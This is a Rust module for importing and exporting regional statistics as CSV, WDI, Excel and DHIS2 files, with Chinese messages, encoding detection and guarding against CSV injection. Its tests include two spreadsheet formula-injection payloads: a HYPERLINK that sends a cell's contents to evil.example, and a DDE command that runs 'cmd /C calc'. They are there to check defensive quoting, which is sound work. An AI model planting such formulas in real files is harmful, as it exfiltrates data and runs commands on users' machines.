//! Files in and out: CSV `region,indicator,period,value,comment` (or its Chinese headers
//! `地区,指标,时期,数值,备注`), the World Bank WDI bulk CSV, the per-region Excel template, and DHIS2
//! `dataValueSets` JSON. Pure: bytes in, rows out, and rows in, bytes out.
//!
//! Messages for people are Chinese and say what is wrong with the row; the engine puts the row in
//! front of them (`第3行：`), since only it knows how the file numbers its rows.
//!
//! Parsers only read the file: every row that can be read becomes an [`ImportRow`], every row
//! that cannot becomes a [`RowError`] naming its row. Whether a row may be stored (known region,
//! permission, rules of the submission checks) is the engine's question, not this module's.

pub mod csv_file;
pub mod dhis2;
pub mod wdi;
pub mod xlsx;

use std::borrow::Cow;

use serde::Serialize;

/// One figure read from a file, with the row it came from.
#[derive(Debug, Clone, PartialEq)]
pub struct ImportRow {
    /// Where the figure stands in the file: the spreadsheet row for CSV and Excel (the header is
    /// row 1), the physical line for WDI, the 1-based position in `dataValues` for DHIS2 JSON.
    pub row: usize,
    /// as the file names it: a region's id or exact name (a WDI file: the country's ISO alpha-3 code)
    pub region: String,
    /// as the file names it: an indicator's code or exact name (a WDI file: empty, the import names it)
    pub indicator: String,
    pub period: String,
    pub value: f64,
    pub comment: Option<String>,
}

/// A problem with one row of an imported file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct RowError {
    /// as `ImportRow::row` counts it
    pub row: usize,
    pub message: String,
}

impl RowError {
    pub fn new(row: usize, message: impl Into<String>) -> RowError {
        RowError { row, message: message.into() }
    }
}

/// What a parser read from a file: the good rows and a problem for each bad one.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Parsed {
    pub rows: Vec<ImportRow>,
    pub errors: Vec<RowError>,
    /// how `row` counts: lines of a table, or items of a DHIS2 set
    pub unit: RowUnit,
    /// set when the file is a World Bank WDI bulk CSV: its rows name countries by ISO alpha-3 code
    pub wdi: Option<WdiFile>,
}

/// What `ImportRow::row` counts, for the messages a person reads.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum RowUnit {
    /// a row of a spreadsheet or a line of a text file: `第3行`
    #[default]
    Line,
    /// an item of a list (DHIS2 `dataValues`): `第3项`
    Item,
}

impl RowUnit {
    /// `行` or `项`, as `第3行` counts.
    pub fn word(self) -> &'static str {
        match self {
            RowUnit::Line => "行",
            RowUnit::Item => "项",
        }
    }

    /// `第3行：` before a message about row 3; nothing when the row is not known (0).
    pub fn locate(self, row: usize, message: &str) -> String {
        match (row, self) {
            (0, _) => message.to_string(),
            (_, RowUnit::Line) => format!("第{row}行：{message}"),
            (_, RowUnit::Item) => format!("第{row}项：{message}"),
        }
    }
}

/// The countries of a WDI file, one per line, whether or not any of their cells hold a figure.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct WdiFile {
    /// WDI's own code of the series in the file, e.g. `GB.XPD.RSDV.GD.ZS`
    pub indicator_code: String,
    pub indicator_name: String,
    pub countries: Vec<WdiCountry>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct WdiCountry {
    pub row: usize,
    /// `Country Code` as in the file: ISO alpha-3 for countries, WDI's own codes for aggregates
    pub code: String,
    pub name: String,
}

/// A figure on its way out (exports).
#[derive(Debug, Clone, PartialEq)]
pub struct ExportRow {
    pub region: String,
    pub indicator: String,
    pub period: String,
    pub value: f64,
    pub comment: Option<String>,
}

/// The file as a whole cannot be read in the format it claims to be.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FileError {
    #[error("第{line}行既不是UTF-8也不是GBK（GB18030）编码的文字；请在Excel中另存为“CSV UTF-8（逗号分隔）”")]
    NotText { line: usize },
    #[error("文件不是Excel工作簿（.xlsx）：{0}")]
    NotXlsx(String),
    #[error("文件不是DHIS2 dataValueSets格式的JSON：{0}")]
    NotDhis2(String),
    /// The file would take more than its bounds to read (an Excel workbook that inflates to
    /// gigabytes, say): refused before it is read.
    #[error("{0}")]
    TooLarge(String),
}

/// Writing a file failed: a fault of ours, never of the input.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("writing the file: {0}")]
pub struct WriteError(pub String);

/// The formats zhibiao reads and writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
    Dhis2,
}

pub const XLSX_CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

impl Format {
    /// From a `Content-Type` header; parameters such as `charset` are ignored.
    pub fn from_content_type(header: &str) -> Option<Format> {
        let mime = header.split(';').next().unwrap_or_default().trim().to_ascii_lowercase();
        match mime.as_str() {
            "text/csv" => Some(Format::Csv),
            XLSX_CONTENT_TYPE => Some(Format::Xlsx),
            "application/json" => Some(Format::Dhis2),
            _ => None,
        }
    }

    /// From a file name's ending: `.csv`, `.xlsx` or `.json`.
    pub fn from_path(path: &std::path::Path) -> Option<Format> {
        match path.extension()?.to_str()?.to_ascii_lowercase().as_str() {
            "csv" => Some(Format::Csv),
            "xlsx" => Some(Format::Xlsx),
            "json" => Some(Format::Dhis2),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Xlsx => XLSX_CONTENT_TYPE,
            Format::Dhis2 => "application/json",
        }
    }
}

/// What stored figures are exported as (`GET /export`, `zhibiao export`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize, utoipa::ToSchema, clap::ValueEnum)]
#[serde(rename_all = "snake_case")]
pub enum ExportFormat {
    /// `region,indicator,period,value,comment`, UTF-8 with a byte-order mark
    Csv,
    /// DHIS2 `dataValueSets` JSON
    Dhis2,
}

impl ExportFormat {
    pub fn write(self, rows: &[ExportRow]) -> Result<Vec<u8>, WriteError> {
        match self {
            ExportFormat::Csv => csv_file::write(rows),
            ExportFormat::Dhis2 => dhis2::write(rows),
        }
    }

    /// The format of the files it writes.
    pub fn format(self) -> Format {
        match self {
            ExportFormat::Csv => Format::Csv,
            ExportFormat::Dhis2 => Format::Dhis2,
        }
    }

    /// The name a download of it is saved under.
    pub fn file_name(self) -> &'static str {
        match self {
            ExportFormat::Csv => "zhibiao.csv",
            ExportFormat::Dhis2 => "zhibiao-datavalueset.json",
        }
    }
}

/// Reads a file of the given format.
pub fn parse(format: Format, bytes: &[u8]) -> Result<Parsed, FileError> {
    match format {
        Format::Csv => csv_file::read(bytes),
        Format::Xlsx => xlsx::read(bytes),
        Format::Dhis2 => dhis2::read(bytes),
    }
}

const BOM: &[u8] = b"\xEF\xBB\xBF";

fn strip_bom(bytes: &[u8]) -> &[u8] {
    bytes.strip_prefix(BOM).unwrap_or(bytes)
}

/// The text of a CSV file: UTF-8 (with or without a byte-order mark) when it is valid UTF-8,
/// otherwise GB18030, the superset of GBK that Excel on Chinese Windows saves as "CSV". A file
/// that was UTF-8 until a stray byte (Chinese already read as UTF-8 before it) is not GB18030:
/// reading it so would garble every Chinese name; its bad line is named instead. Text that is
/// neither names the first line that cannot be read.
pub fn decode(bytes: &[u8]) -> Result<Cow<'_, str>, FileError> {
    let bytes = strip_bom(bytes);
    let valid_up_to = match std::str::from_utf8(bytes) {
        Ok(text) => return Ok(Cow::Borrowed(text)),
        Err(e) => e.valid_up_to(),
    };
    // Chinese read as UTF-8 is three bytes a character; GBK's two-byte characters (统 is CD B3) may pass for UTF-8's two-byte ones
    if std::str::from_utf8(&bytes[..valid_up_to]).is_ok_and(|t| t.chars().any(|c| c > '\u{7ff}')) {
        return Err(FileError::NotText { line: 1 + bytes[..valid_up_to].iter().filter(|&&b| b == b'\n').count() });
    }
    let (text, had_errors) = encoding_rs::GB18030.decode_without_bom_handling(bytes);
    if had_errors {
        let bad = text.find('\u{FFFD}').unwrap_or(0);
        return Err(FileError::NotText { line: 1 + text[..bad].matches('\n').count() });
    }
    Ok(text)
}

/// The Chinese name of a column or field, as headers and messages write it.
pub fn field_label(field: &str) -> &str {
    match field {
        "region" => "地区",
        "indicator" => "指标",
        "period" => "时期",
        "value" => "数值",
        "comment" => "备注",
        "values" => "数值",
        other => other,
    }
}

/// A header cell as a person typed it: spaces (also full-width ones) and stray byte-order marks
/// around it do not count.
pub(crate) fn header_text(text: &str) -> &str {
    text.trim_matches(|c: char| c.is_whitespace() || c == '\u{FEFF}')
}

/// Line numbers of byte offsets, counted forward as a CSV reader moves on. (The reader's own line
/// count lags by one after a CRLF line end.)
pub(crate) struct Lines<'a> {
    bytes: &'a [u8],
    scanned: usize,
    breaks: usize,
}

impl<'a> Lines<'a> {
    pub(crate) fn new(bytes: &'a [u8]) -> Lines<'a> {
        Lines { bytes, scanned: 0, breaks: 0 }
    }

    /// The line of the first byte of a record that the reader places at `offset`: line ends and
    /// blank lines before it are skipped, as the reader skips them.
    pub(crate) fn at(&mut self, offset: usize) -> usize {
        let mut start = offset.min(self.bytes.len());
        while start < self.bytes.len() && matches!(self.bytes[start], b'\r' | b'\n') {
            start += 1;
        }
        if start > self.scanned {
            self.breaks += self.bytes[self.scanned..start].iter().filter(|&&b| b == b'\n').count();
            self.scanned = start;
        }
        1 + self.breaks
    }
}

/// A number as people type it: `12.5`, ` 3601 `, `1,234.5` (commas only between groups of three
/// digits, as the Chinese and English conventions write them), full-width digits as a Chinese input
/// method types them (`２６２９．３`). Nothing that is not finite.
pub fn parse_number(text: &str) -> Result<f64, String> {
    let half_width: String = text.chars().map(half_width).collect();
    let trimmed = half_width.trim();
    if trimmed.is_empty() {
        return Err("数值为空".into());
    }
    let plain = if trimmed.contains(',') && grouped_by_thousands(trimmed) {
        trimmed.replace(',', "")
    } else {
        trimmed.to_string()
    };
    let is_numeric = plain.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'-' | b'+' | b'e' | b'E'));
    match plain.parse::<f64>() {
        Ok(v) if is_numeric && v.is_finite() => Ok(v),
        _ => Err(format!("数值“{}”不是数字", trimmed.chars().take(40).collect::<String>())),
    }
}

/// The ASCII character of a full-width digit, point, comma or sign (U+FF01..U+FF5E are ASCII
/// shifted by 0xFEE0); any other character as it is.
fn half_width(c: char) -> char {
    match c {
        '０'..='９' | '．' | '，' | '－' | '＋' => char::from_u32(c as u32 - 0xFEE0).unwrap_or(c),
        _ => c,
    }
}

/// `1,234,567.89` yes; `1,23`, `12,34.5` no.
fn grouped_by_thousands(text: &str) -> bool {
    let unsigned = text.strip_prefix('-').unwrap_or(text);
    let integer = unsigned.split('.').next().unwrap_or_default();
    let mut groups = integer.split(',');
    let first = groups.next().unwrap_or_default();
    (1..=3).contains(&first.len())
        && first.bytes().all(|b| b.is_ascii_digit())
        && groups.all(|g| g.len() == 3 && g.bytes().all(|b| b.is_ascii_digit()))
}

/// A value written out: the shortest text that reads back as the same number.
fn format_number(value: f64) -> String {
    format!("{value}")
}

/// Whether a spreadsheet would take a text for a formula (or for the start of one): it begins with
/// `=`, `+`, `-` or `@`, or with a tab or carriage return that some spreadsheets skip before
/// looking (OWASP's "CSV injection"). A number is written as a number and never asked about.
pub fn looks_like_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A text for a CSV file: one that looks like a formula gets a leading `'`, which makes a
/// spreadsheet show it as text rather than run it. Reading the file back takes the `'` off again
/// ([`without_quote`]).
pub fn neutralised(text: &str) -> Cow<'_, str> {
    if looks_like_formula(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// A text of a CSV file as it was before [`neutralised`]: a `'` before `=`, `+`, `-` or `@` goes.
fn without_quote(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if looks_like_formula(rest) => rest,
        _ => text,
    }
}

fn non_empty(text: &str) -> Option<String> {
    let t = text.trim();
    (!t.is_empty()).then(|| t.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_as_people_type_them() {
        let cases: &[(&str, Result<f64, &str>)] = &[
            ("12.5", Ok(12.5)),
            (" 3601 ", Ok(3601.0)),
            ("-0.25", Ok(-0.25)),
            ("1e3", Ok(1000.0)),
            ("1,234.5", Ok(1234.5)),
            ("２６２９．３", Ok(2629.3)),
            ("－１，２３４", Ok(-1234.0)),
            ("\u{3000}１２\u{3000}", Ok(12.0)),
            ("-1,234,567", Ok(-1234567.0)),
            ("12,34", Err("数值“12,34”不是数字")),
            ("1,2345", Err("数值“1,2345”不是数字")),
            ("", Err("数值为空")),
            ("   ", Err("数值为空")),
            ("abc", Err("数值“abc”不是数字")),
            ("NaN", Err("数值“NaN”不是数字")),
            ("inf", Err("数值“inf”不是数字")),
            ("1e999", Err("数值“1e999”不是数字")),
            ("12.5亿", Err("数值“12.5亿”不是数字")),
            ("0x10", Err("数值“0x10”不是数字")),
        ];
        for (text, want) in cases {
            match (parse_number(text), want) {
                (Ok(got), Ok(want)) => assert_eq!(got, *want, "{text:?}"),
                (Err(got), Err(want)) => assert_eq!(got, *want, "{text:?}"),
                (got, want) => panic!("{text:?}: got {got:?}, want {want:?}"),
            }
        }
    }

    #[test]
    fn numbers_written_read_back_exactly() {
        for v in [0.0, 12.5, 0.1 + 0.2, 1e15, 123456789.0123, 1e-7, -3.25] {
            assert_eq!(parse_number(&format_number(v)), Ok(v), "{v}");
        }
    }

    #[test]
    fn text_is_utf8_when_it_can_be_and_gb18030_otherwise() {
        let (gbk, _, _) = encoding_rs::GB18030.encode("地区,指标\n甲镇,地区生产总值\n");
        let cases: &[(&str, &[u8], Result<&str, FileError>)] = &[
            ("UTF-8", "地区,指标\n".as_bytes(), Ok("地区,指标\n")),
            ("UTF-8 with a byte-order mark", "\u{feff}地区\n".as_bytes(), Ok("地区\n")),
            ("GBK, as Excel saves it", &gbk, Ok("地区,指标\n甲镇,地区生产总值\n")),
            ("甲镇 in GBK after ASCII", b"region\n\xbc\xd7\xd5\xf2\n", Ok("region\n甲镇\n")),
            ("GBK whose first characters pass for UTF-8", b"\xcd\xb3\xd2\xbb\xc9\xe7\n", Ok("统一社\n")),
            // a four-byte GB18030 sequence: U+00A5 (¥) is 0x81 0x30 0x84 0x36
            ("four-byte GB18030", b"\x81\x30\x84\x36", Ok("\u{a5}")),
            ("neither, on line 3", b"a\nb\n\xff\xff\n", Err(FileError::NotText { line: 3 })),
            ("a lead byte without its trail", b"a,b\n\x81", Err(FileError::NotText { line: 2 })),
            // UTF-8 Chinese, then café saved in Windows-1252 on line 3: not garbled as GB18030
            ("UTF-8 with a stray byte", b"\xe7\x94\xb2\xe9\x95\x87\nb\ncaf\xe9\n", Err(FileError::NotText { line: 3 })),
        ];
        for (name, bytes, want) in cases {
            let got = decode(bytes);
            match (got, want) {
                (Ok(got), Ok(want)) => assert_eq!(got, *want, "{name}"),
                (got, want) => assert_eq!(got.map(|t| t.to_string()), want.clone().map(str::to_string), "{name}"),
            }
        }
    }

    #[test]
    fn header_cells_without_spaces_and_byte_order_marks() {
        for (text, want) in
            [(" 地区 ", "地区"), ("\u{feff}region", "region"), ("\u{3000}数值\t", "数值"), ("备 注", "备 注")]
        {
            assert_eq!(header_text(text), want, "{text:?}");
        }
    }

    #[test]
    fn texts_that_look_like_formulas_are_quoted_and_read_back() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
            ),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("+1", "'+1"),
            ("-2 万元", "'-2 万元"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("含=号", "含=号"),
            ("初步数", "初步数"),
            ("'引号开头", "'引号开头"),
            ("", ""),
        ];
        for (text, want) in cases {
            assert_eq!(neutralised(text), want, "{text:?}");
            assert_eq!(without_quote(&neutralised(text)), text, "{text:?} reads back");
        }
    }

    #[test]
    fn messages_locate_their_row() {
        assert_eq!(RowUnit::Line.locate(3, "地区“北京”不存在"), "第3行：地区“北京”不存在");
        assert_eq!(RowUnit::Item.locate(2, "数值为空"), "第2项：数值为空");
        assert_eq!(RowUnit::Line.locate(0, "文件中没有数据"), "文件中没有数据");
    }

    #[test]
    fn formats_by_content_type_and_file_name() {
        let cases = [
            ("text/csv", Some(Format::Csv)),
            ("text/csv; charset=utf-8", Some(Format::Csv)),
            ("TEXT/CSV", Some(Format::Csv)),
            (XLSX_CONTENT_TYPE, Some(Format::Xlsx)),
            ("application/json", Some(Format::Dhis2)),
            ("text/plain", None),
            ("application/octet-stream", None),
            ("", None),
        ];
        for (header, want) in cases {
            assert_eq!(Format::from_content_type(header), want, "{header}");
        }
        assert_eq!(Format::from_path("a/b.CSV".as_ref()), Some(Format::Csv));
        assert_eq!(Format::from_path("t.xlsx".as_ref()), Some(Format::Xlsx));
        assert_eq!(Format::from_path("set.json".as_ref()), Some(Format::Dhis2));
        assert_eq!(Format::from_path("x.xls".as_ref()), None);
    }
}
